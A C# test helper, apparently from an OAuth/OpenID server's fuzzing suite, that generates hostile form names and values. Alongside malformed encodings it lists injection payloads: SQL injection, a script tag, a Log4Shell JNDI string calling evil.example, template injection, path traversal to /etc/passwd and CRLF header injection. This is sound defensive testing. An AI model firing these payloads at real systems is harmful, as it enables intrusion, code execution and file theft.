using System.Text;

namespace Castellan.IntegrationTests.Fuzzing;

/// <summary>Hostile wire text for names and values: broken encodings, control characters, injections, huge runs.</summary>
internal static class HostileText
{
    /// <summary>As they appear in a form or query: percent garbage, invalid UTF-8 (encoded and raw), controls.</summary>
    private static readonly string[] FormValues =
    [
        "%00", "%0D%0A", "%0A", "%0D", "%09", "%7F", "%1B%5B31m",
        "\u0000", "\r\n", "\u00FF\u00FE", "\u0080", "\u00C3\u0028", "\u00F0\u0028\u008C\u0028",
        "%FF", "%FE%FF", "%C3%28", "%E2%28%A1", "%ED%A0%80", "%ED%BF%BF", "%C0%AF", "%C0%80", "%F4%90%80%80", "%F8%88%80%80%80",
        "%EF%BB%BF", "%E2%80%AE", "%E2%80%A8", "%C2%85", "%EF%BF%BF",
        "%", "%%", "%Z", "%ZZ", "%2", "%G0", "%u0041", "%%32%35", "%25", "%25%32%35", "%+", "%%%%%%",
        "+", "%2B", "%20%20%20", "++++", "%26", "%3D", "&", "=", "==", "&=&=",
        "' OR 1=1 --", "\"; DROP TABLE clients; --", "<script>alert(1)</script>", "%3Cscript%3E",
        "${jndi:ldap://evil.example/a}", "{{7*7}}", "../../../../etc/passwd", "..%2F..%2Fetc%2Fpasswd",
        "%F0%9F%92%A5", "null", "undefined", "[]", "{}", "%7B%22a%22%3A1%7D", "-1", "0", "1e309", "NaN",
        "https://evil.example/cb", "javascript:alert(1)", "data:text/html,x", "//evil.example",
    ];

    /// <summary>Names other than the spec's: encodings of nothing, controls, array syntax, over the 256-character key limit.</summary>
    private static readonly string[] FormNames =
    [
        "", "%00", "\u0000", "%FF", "\u00FF", "\u00C3\u0028", "%C3%28", "%", "%ZZ", "+", "%20", "=", "[]", "a[]", "a[0]",
        "__proto__", "constructor", "$where", "a.b", "a%26b", "a%3Db", "%0D%0AX-Injected:%201",
    ];

    /// <summary>Parameter names from the OAuth and OpenID specs the endpoints do or do not read.</summary>
    public static IReadOnlyList<string> ProtocolNames { get; } =
    [
        "grant_type", "client_id", "client_secret", "scope", "resource", "audience", "token", "token_type_hint",
        "redirect_uri", "response_type", "response_mode", "code", "code_verifier", "refresh_token", "username", "password",
        "client_assertion", "client_assertion_type", "state", "nonce", "request", "request_uri", "prompt", "max_age",
        "assertion", "subject_token", "actor_token", "device_code", "auth_req_id", "dpop", "acr_values", "claims",
    ];

    public static string Value(FuzzRandom random) => random.Next(4) switch
    {
        0 => random.Pick(FormValues),
        1 => random.Octets(random.Between(1, 48)),
        2 => PercentTriplets(random, random.Between(1, 24)),
        _ => WireText.FormEncode(Unicode(random, random.Between(1, 16))),
    };

    public static string Name(FuzzRandom random) => random.Next(3) switch
    {
        0 => random.Pick(FormNames),
        1 => random.Octets(random.Between(1, 16)),
        _ => new string(random.Pick("aZ_%.-"), random.Pick<int>([257, 300, 1024, 20_000])),
    };

    /// <summary>A value of up to <paramref name="max"/> characters: a run of one character, or varied text.</summary>
    public static string Huge(FuzzRandom random, int max)
    {
        var length = random.Between(max / 64, max);
        return random.OneIn(2)
            ? new string(random.Pick("aA0%+-._~"), length)
            : random.Chars(length, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-._~%+");
    }

    /// <summary>"%XX" triplets with hex digits and non-hex characters mixed, some decoding to invalid UTF-8.</summary>
    public static string PercentTriplets(FuzzRandom random, int count)
    {
        var builder = new StringBuilder();
        for (var i = 0; i < count; i++)
        {
            builder.Append('%').Append(random.Pick("0123456789ABCDEFabcdefGZ%")).Append(random.Pick("0123456789ABCDEFabcdefGZ%"));
        }

        return builder.ToString();
    }

    /// <summary>Code points from every plane, lone surrogates included (they become U+FFFD when encoded as UTF-8).</summary>
    public static string Unicode(FuzzRandom random, int count)
    {
        var builder = new StringBuilder();
        for (var i = 0; i < count; i++)
        {
            var codePoint = random.Next(5) switch
            {
                0 => random.Next(0x20),
                1 => random.Between(0x80, 0x7FF),
                2 => random.Between(0xD800, 0xDFFF),
                3 => random.Between(0x10000, 0x10FFFF),
                _ => random.Between(0x800, 0xFFFF),
            };
            if (codePoint is >= 0xD800 and <= 0xDFFF)
            {
                builder.Append((char)codePoint);
            }
            else
            {
                builder.Append(char.ConvertFromUtf32(codePoint));
            }
        }

        return builder.ToString();
    }

    /// <summary>The same name with its ASCII letters in another case (never the original spelling).</summary>
    public static string OtherCase(FuzzRandom random, string name)
    {
        if (!name.Any(char.IsAsciiLetterLower))
        {
            return name + "X";
        }

        while (true)
        {
            var mode = random.Next(3);
            var chars = name.ToCharArray();
            for (var i = 0; i < chars.Length; i++)
            {
                var upper = mode switch
                {
                    0 => true,
                    1 => i == 0,
                    _ => random.OneIn(2),
                };
                if (upper && char.IsAsciiLetterLower(chars[i]))
                {
                    chars[i] = (char)(chars[i] - 'a' + 'A');
                }
            }

            var variant = new string(chars);
            if (!string.Equals(variant, name, StringComparison.Ordinal))
            {
                return variant;
            }
        }
    }
}
